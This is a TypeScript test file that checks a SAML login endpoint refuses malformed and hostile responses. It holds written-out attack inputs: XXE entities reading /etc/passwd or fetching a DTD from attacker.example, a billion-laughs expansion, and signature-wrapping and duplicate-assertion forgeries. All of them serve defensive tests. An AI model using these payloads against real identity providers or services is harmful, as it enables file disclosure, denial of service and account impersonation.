/**
 * What reaches the SAML pipeline before any signature is looked at (docs/saml-checks.md §1-§3): the form post itself,
 * the size cap and strict base64, a parser on which every warning is fatal (no DOCTYPE, one root, nothing outside
 * it), and the document's shape (one protocol Response root, one Assertion, no EncryptedAssertion), all matched by
 * namespace, never by local name alone. Everything is driven through POST /:org/acs.
 */
import { SELF } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { ERROR_STATUS } from "../../../shared/errors";
import type { SignedResponseOptions } from "../../support/idp";
import { BASE, validFor } from "../support/api";
import {
  assertionOf,
  base64,
  child,
  expectRefused,
  expectSignedInAs,
  insertAfter,
  mutate,
  NS,
  naiveSignaturesVerify,
  orgUserEmails,
  parseXml,
  refusalCode,
  responseOf,
  serialize,
} from "./support/mutate";
import { signedResponseFor } from "./support/signed-response";

const EMAIL = "ada@example.com";
const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';

/** A fresh org and a response its IdP signed like Okta (Response and Assertion). */
async function setup(options: Partial<SignedResponseOptions> = {}) {
  const fixture = await signedResponseFor(EMAIL, options);
  expect(fixture.xml.startsWith(XML_DECLARATION)).toBe(true);
  return fixture;
}

/** Bytes → base64 without any UTF-8 re-encoding (for documents that are deliberately not UTF-8). */
function bytesToBase64(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString("base64");
}

/** The document with `doctype` placed right after the XML declaration. */
function withDoctype(xml: string, doctype: string): string {
  return XML_DECLARATION + doctype + xml.slice(XML_DECLARATION.length);
}

/** POSTs a raw body to the ACS with the given content type. */
function postRaw(orgId: string, body: BodyInit, contentType: string): Promise<Response> {
  return SELF.fetch(`${BASE}/${orgId}/acs`, { method: "POST", headers: { "content-type": contentType }, body, redirect: "manual" });
}

async function expectRawRefused(response: Response, orgId: string, code: keyof typeof ERROR_STATUS): Promise<void> {
  expect({ status: response.status, code: await refusalCode(response) }).toEqual({ status: ERROR_STATUS[code], code });
  expect(response.headers.get("set-cookie")).toBeNull();
  expect(await orgUserEmails(orgId)).toEqual([]);
}

describe("controls", () => {
  it("the untouched signed response (and its DOM round trip) signs in", async () => {
    const { idp, org, xml } = await setup();
    expect(
      naiveSignaturesVerify(
        mutate(xml, () => {}),
        idp.identity.certPem,
      ),
    ).toBe(true);
    await expectSignedInAs(org.id, base64(mutate(xml, () => {})), EMAIL);
  });

  it("base64 wrapped at 76 columns with CRLF (as IdPs and browsers send it) is accepted", async () => {
    const { org, xml } = await setup();
    const wrapped = base64(xml).replace(/.{76}/g, "$&\r\n");
    expect(wrapped).toContain("\r\n");
    await expectSignedInAs(org.id, wrapped, EMAIL);
  });

  it("a document padded with a trailing comment to exactly 256 KiB of base64 is accepted (the cap's edge)", async () => {
    const { org, xml } = await setup();
    const paddedTo = (base64Chars: number) => {
      const bytes = (base64Chars / 4) * 3;
      const filler = bytes - new TextEncoder().encode(xml).length - "<!---->".length;
      return `${xml}<!--${"A".repeat(filler)}-->`;
    };
    const atCap = base64(paddedTo(256 * 1024));
    expect(atCap.length).toBe(256 * 1024);
    await expectSignedInAs(org.id, atCap, EMAIL);
  });
});

describe("size and encoding (docs/saml-checks.md §1)", () => {
  it("SAMLResponse one base64 quantum over 256 KiB → saml_too_large (413)", async () => {
    const { org, xml } = await setup();
    const bytes = ((256 * 1024 + 4) / 4) * 3;
    const padded = `${xml}<!--${"A".repeat(bytes - new TextEncoder().encode(xml).length - 7)}-->`;
    const encoded = base64(padded);
    expect(encoded.length).toBe(256 * 1024 + 4);
    await expectRefused(org.id, encoded, "saml_too_large");
  });

  it("a form body far over the cap (1 MiB) → saml_too_large before anything is decoded", async () => {
    const { org } = await setup();
    await expectRefused(org.id, "A".repeat(1024 * 1024), "saml_too_large");
  });

  it("empty SAMLResponse → saml_encoding_invalid", async () => {
    const { org } = await setup();
    await expectRefused(org.id, "", "saml_encoding_invalid");
  });

  it("not base64 at all → saml_encoding_invalid", async () => {
    const { org } = await setup();
    await expectRefused(org.id, "this is <not> base64!", "saml_encoding_invalid");
  });

  it("base64 with a junk character in the middle → saml_encoding_invalid (no lenient skipping)", async () => {
    const { org, xml } = await setup();
    const encoded = base64(xml);
    const middle = Math.floor(encoded.length / 8) * 4;
    await expectRefused(org.id, `${encoded.slice(0, middle)}*${encoded.slice(middle)}`, "saml_encoding_invalid");
  });

  it("base64url alphabet (- and _) → saml_encoding_invalid", async () => {
    const { org, xml } = await setup();
    const encoded = base64(xml).replace(/\+/g, "-").replace(/\//g, "_");
    expect(encoded).toMatch(/[-_]/);
    await expectRefused(org.id, encoded, "saml_encoding_invalid");
  });

  it("truncated base64 (length not a multiple of 4) → saml_encoding_invalid", async () => {
    const { org, xml } = await setup();
    const encoded = base64(xml);
    await expectRefused(org.id, encoded.slice(0, encoded.length - (encoded.endsWith("=") ? 1 : 2)), "saml_encoding_invalid");
  });

  it("data after the base64 padding → saml_encoding_invalid", async () => {
    const { org, xml } = await setup();
    const encoded = base64(`${xml} `); // a length that needs padding
    const padded = encoded.endsWith("=") ? encoded : base64(`${xml}  `);
    expect(padded.endsWith("=")).toBe(true);
    await expectRefused(org.id, `${padded}QUFB`, "saml_encoding_invalid");
  });

  it("non-UTF-8 bytes (a Latin-1 é inside the document) → saml_encoding_invalid", async () => {
    const { org, xml } = await setup();
    const bytes = new TextEncoder().encode(xml.replace("ada@example.com</saml2:NameID>", "ad\u0001@example.com</saml2:NameID>"));
    const index = bytes.indexOf(0x01);
    expect(index).toBeGreaterThan(0);
    bytes[index] = 0xe9; // é in Latin-1, an invalid lone continuation start in UTF-8
    await expectRefused(org.id, bytesToBase64(bytes), "saml_encoding_invalid");
  });

  it("a UTF-16 document (with BOM) → saml_encoding_invalid", async () => {
    const { org, xml } = await setup();
    const utf16 = new Uint8Array(2 + xml.length * 2);
    utf16[0] = 0xff;
    utf16[1] = 0xfe;
    for (let i = 0; i < xml.length; i++) utf16[2 + i * 2] = xml.charCodeAt(i) & 0xff;
    await expectRefused(org.id, bytesToBase64(utf16), "saml_encoding_invalid");
  });
});

describe("strict parsing (docs/saml-checks.md §2)", () => {
  it("DOCTYPE with an internal entity used in the email → saml_doctype_forbidden", async () => {
    const { org, xml } = await setup();
    const forged = withDoctype(xml, '<!DOCTYPE saml2p:Response [<!ENTITY who "victim@corp.example">]>').replaceAll(`>${EMAIL}<`, ">&who;<");
    await expectRefused(org.id, base64(forged), "saml_doctype_forbidden");
  });

  it("XXE: DOCTYPE with a SYSTEM entity → saml_doctype_forbidden", async () => {
    const { org, xml } = await setup();
    const forged = withDoctype(xml, '<!DOCTYPE saml2p:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(
      "</saml2p:Response>",
      "<x>&xxe;</x></saml2p:Response>",
    );
    await expectRefused(org.id, base64(forged), "saml_doctype_forbidden");
  });

  it("XXE: external parameter entity (out-of-band DTD fetch) → saml_doctype_forbidden", async () => {
    const { org, xml } = await setup();
    const forged = withDoctype(xml, '<!DOCTYPE r [<!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd"> %remote;]>');
    await expectRefused(org.id, base64(forged), "saml_doctype_forbidden");
  });

  it("billion laughs (nested entity expansion) → saml_doctype_forbidden", async () => {
    const { org, xml } = await setup();
    const levels = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    const forged = withDoctype(xml, `<!DOCTYPE lolz [${levels.join("")}]>`).replace("</saml2p:Response>", "<x>&lol9;</x></saml2p:Response>");
    await expectRefused(org.id, base64(forged), "saml_doctype_forbidden");
  });

  it("a bare DOCTYPE without any declaration → saml_doctype_forbidden", async () => {
    const { org, xml } = await setup();
    await expectRefused(org.id, base64(withDoctype(xml, "<!DOCTYPE saml2p:Response>")), "saml_doctype_forbidden");
  });

  it("an undefined entity reference (xmldom would recover) → saml_xml_invalid", async () => {
    const { org, xml } = await setup();
    await expectRefused(org.id, base64(xml.replace(`>${EMAIL}</saml2:NameID>`, ">&victim;</saml2:NameID>")), "saml_xml_invalid");
  });

  it("two root elements (a second, evil Response after the signed one) → saml_xml_invalid", async () => {
    const { org, xml } = await setup();
    const second = xml.slice(XML_DECLARATION.length).replaceAll(EMAIL, "victim@corp.example");
    await expectRefused(org.id, base64(xml + second), "saml_xml_invalid");
  });

  it("trailing garbage text after the root element → saml_xml_invalid", async () => {
    const { org, xml } = await setup();
    await expectRefused(org.id, base64(`${xml}garbage`), "saml_xml_invalid");
  });

  it("a processing instruction before the root (other than the XML declaration) → saml_xml_invalid", async () => {
    const { org, xml } = await setup();
    const forged = `${XML_DECLARATION}<?xml-stylesheet href="https://attacker.example/x.xsl"?>${xml.slice(XML_DECLARATION.length)}`;
    await expectRefused(org.id, base64(forged), "saml_xml_invalid");
  });

  it("not well-formed: the document cut short → saml_xml_invalid", async () => {
    const { org, xml } = await setup();
    await expectRefused(org.id, base64(xml.slice(0, xml.length - 30)), "saml_xml_invalid");
  });

  it("not well-formed: mismatched end tag → saml_xml_invalid", async () => {
    const { org, xml } = await setup();
    await expectRefused(org.id, base64(xml.replace("</saml2:NameID>", "</saml2:NameId>")), "saml_xml_invalid");
  });

  it("not well-formed: an unbound namespace prefix → saml_xml_invalid", async () => {
    const { org, xml } = await setup();
    await expectRefused(org.id, base64(xml.replace("</saml2p:Response>", "<evil:x/></saml2p:Response>")), "saml_xml_invalid");
  });

  it("an empty document (valid base64 of nothing but whitespace) → saml_xml_invalid", async () => {
    const { org } = await setup();
    await expectRefused(org.id, base64("   \n"), "saml_xml_invalid");
  });
});

describe("document structure (docs/saml-checks.md §3)", () => {
  it("a processing instruction inside the Response → saml_structure_invalid", async () => {
    const { org, xml } = await setup();
    const forged = mutate(xml, (doc) => {
      insertAfter(doc.createProcessingInstruction("evil", "data"), child(responseOf(doc), NS.assertion, "Issuer"));
    });
    expect(forged).toContain("<?evil data?>");
    await expectRefused(org.id, base64(forged), "saml_structure_invalid");
  });

  it("EncryptedAssertion instead of the Assertion → saml_encrypted_unsupported", async () => {
    const { org, xml } = await setup({ signResponse: false });
    const forged = mutate(xml, (doc) => {
      const encrypted = doc.createElementNS(NS.assertion, "saml2:EncryptedAssertion");
      const data = doc.createElementNS("http://www.w3.org/2001/04/xmlenc#", "xenc:EncryptedData");
      data.appendChild(doc.createTextNode("opaque"));
      encrypted.appendChild(data);
      responseOf(doc).replaceChild(encrypted, assertionOf(doc));
    });
    await expectRefused(org.id, base64(forged), "saml_encrypted_unsupported");
  });

  it("EncryptedAssertion next to a valid signed Assertion → saml_encrypted_unsupported", async () => {
    const { org, xml } = await setup({ signResponse: false });
    const forged = mutate(xml, (doc) => {
      const encrypted = doc.createElementNS(NS.assertion, "saml2:EncryptedAssertion");
      encrypted.appendChild(doc.createElementNS("http://www.w3.org/2001/04/xmlenc#", "xenc:EncryptedData"));
      responseOf(doc).appendChild(encrypted);
    });
    await expectRefused(org.id, base64(forged), "saml_encrypted_unsupported");
  });

  it("an Assertion as the root (no protocol Response) → saml_structure_invalid", async () => {
    const { idp, org, xml } = await setup({ signResponse: false });
    const bare = XML_DECLARATION + serialize(assertionOf(parseXml(xml)));
    // The bare Assertion's own signature is still perfectly valid.
    expect(naiveSignaturesVerify(bare, idp.identity.certPem)).toBe(true);
    await expectRefused(org.id, base64(bare), "saml_structure_invalid");
  });

  it("a Response in a look-alike namespace (same prefix and local name) → saml_structure_invalid", async () => {
    const { org, xml } = await setup({ signResponse: false });
    // The first declaration is the root's: only the root moves to the look-alike namespace.
    const forged = xml.replace(`xmlns:saml2p="${NS.protocol}"`, 'xmlns:saml2p="urn:oasis:names:tc:SAML:2.0:protocol:evil"');
    expect(responseOf(parseXml(forged)).namespaceURI).toBe("urn:oasis:names:tc:SAML:2.0:protocol:evil");
    await expectRefused(org.id, base64(forged), "saml_structure_invalid");
  });

  it("a SAML 1.x protocol Response root → saml_structure_invalid", async () => {
    const { org, xml } = await setup({ signResponse: false });
    const forged = xml.replace(`xmlns:saml2p="${NS.protocol}"`, 'xmlns:saml2p="urn:oasis:names:tc:SAML:1.0:protocol"');
    expect(responseOf(parseXml(forged)).namespaceURI).toBe("urn:oasis:names:tc:SAML:1.0:protocol");
    await expectRefused(org.id, base64(forged), "saml_structure_invalid");
  });

  it("matching by local-name only: a foreign <Response> root wrapping the genuine signed Response → saml_structure_invalid", async () => {
    const { idp, org, xml } = await setup();
    const inner = xml.slice(XML_DECLARATION.length);
    const forged = `${XML_DECLARATION}<evil:Response xmlns:evil="urn:example:evil" ID="id0evil">${inner}</evil:Response>`;
    // `//*[local-name()='Response']` finds the foreign root first; every signature inside still verifies.
    expect(naiveSignaturesVerify(forged, idp.identity.certPem)).toBe(true);
    await expectRefused(org.id, base64(forged), "saml_structure_invalid");
  });

  it("two Assertions, each validly signed by the IdP → saml_structure_invalid", async () => {
    const { idp, org, xml } = await setup({ signResponse: false });
    const other = await idp.signedResponseXml(validFor(org, { nameId: "victim@corp.example", signResponse: false }));
    const forged = mutate(xml, (doc) => {
      const second = doc.importNode(assertionOf(parseXml(other)), true);
      responseOf(doc).insertBefore(second, assertionOf(doc));
    });
    expect(naiveSignaturesVerify(forged, idp.identity.certPem)).toBe(true);
    await expectRefused(org.id, base64(forged), "saml_structure_invalid");
  });

  it("no Assertion at all → saml_structure_invalid", async () => {
    const { org, xml } = await setup({ signResponse: false });
    const forged = mutate(xml, (doc) => {
      responseOf(doc).removeChild(assertionOf(doc));
    });
    await expectRefused(org.id, base64(forged), "saml_structure_invalid");
  });
});

describe("the form post itself", () => {
  it("missing SAMLResponse field → saml_request_invalid", async () => {
    const { org } = await setup();
    await expectRawRefused(await postRaw(org.id, "RelayState=%2F", "application/x-www-form-urlencoded"), org.id, "saml_request_invalid");
  });

  it("a SAMLResponse field with another case (samlresponse) is not the field → saml_request_invalid", async () => {
    const { org, xml } = await setup();
    const body = new URLSearchParams({ samlresponse: base64(xml) }).toString();
    await expectRawRefused(await postRaw(org.id, body, "application/x-www-form-urlencoded"), org.id, "saml_request_invalid");
  });

  it("two SAMLResponse fields (a valid one and an evil one) → saml_request_invalid", async () => {
    const { org, xml } = await setup();
    const form = new URLSearchParams();
    form.append("SAMLResponse", base64(xml));
    form.append("SAMLResponse", base64(xml.replaceAll(EMAIL, "victim@corp.example")));
    await expectRawRefused(await postRaw(org.id, form.toString(), "application/x-www-form-urlencoded"), org.id, "saml_request_invalid");
  });

  it("two RelayState fields → saml_request_invalid", async () => {
    const { org, xml } = await setup();
    const form = new URLSearchParams({ SAMLResponse: base64(xml) });
    form.append("RelayState", "/a");
    form.append("RelayState", "https://attacker.example/");
    await expectRawRefused(await postRaw(org.id, form.toString(), "application/x-www-form-urlencoded"), org.id, "saml_request_invalid");
  });

  it("a valid response posted as JSON → saml_request_invalid", async () => {
    const { org, xml } = await setup();
    await expectRawRefused(await postRaw(org.id, JSON.stringify({ SAMLResponse: base64(xml) }), "application/json"), org.id, "saml_request_invalid");
  });

  it("a valid response posted as multipart/form-data → saml_request_invalid", async () => {
    const { org, xml } = await setup();
    const form = new FormData();
    form.set("SAMLResponse", base64(xml));
    const request = new Request(`${BASE}/${org.id}/acs`, { method: "POST", body: form });
    const contentType = request.headers.get("content-type")!;
    expect(contentType).toMatch(/^multipart\/form-data/);
    await expectRawRefused(await postRaw(org.id, await request.arrayBuffer(), contentType), org.id, "saml_request_invalid");
  });

  it("a valid form body with a text/plain content type → saml_request_invalid", async () => {
    const { org, xml } = await setup();
    const body = new URLSearchParams({ SAMLResponse: base64(xml) }).toString();
    await expectRawRefused(await postRaw(org.id, body, "text/plain"), org.id, "saml_request_invalid");
  });

  it("control: the same form body as application/x-www-form-urlencoded signs in", async () => {
    const { org, xml } = await setup();
    const body = new URLSearchParams({ SAMLResponse: base64(xml) }).toString();
    const response = await postRaw(org.id, body, "application/x-www-form-urlencoded");
    expect(response.status).toBe(303);
    expect(await orgUserEmails(org.id)).toEqual([EMAIL]);
  });
});
